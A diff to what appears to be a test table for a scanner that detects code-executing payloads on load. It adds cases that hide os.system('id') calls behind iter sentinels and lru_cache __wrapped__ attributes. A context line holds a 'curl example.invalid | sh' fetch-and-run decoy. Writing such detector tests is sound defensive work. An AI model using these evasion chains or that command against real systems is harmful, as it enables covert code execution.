@@ -88,6 +88,13 @@ CASES = {
     "partial-func-attribute": (
         [Call(Call(getattr, functools.partial(real("os.system"), "x"), "func"), "id")],
         "runs a shell command `id` on load", ["not called"]),
+    # iter(f, sentinel) calls f() until it returns the sentinel; a wrapper's __wrapped__ is f.
+    "iter-sentinel-calls": (
+        [Call(list, Call(iter, functools.partial(real("os.system"), "id"), 0))],
+        "runs a shell command `id` on load", ["not called"]),
+    "wrapped-attribute": (
+        [Call(Call(getattr, Call(functools.lru_cache, real("os.system")), "__wrapped__"), "id")],
+        "runs a shell command `id` on load", ["not called"]),
     "map-decoy-first-item": (
         [Call(list, Call(map, real("os.system"), ["true", "curl example.invalid | sh"]))],
         "runs a shell command `", []),
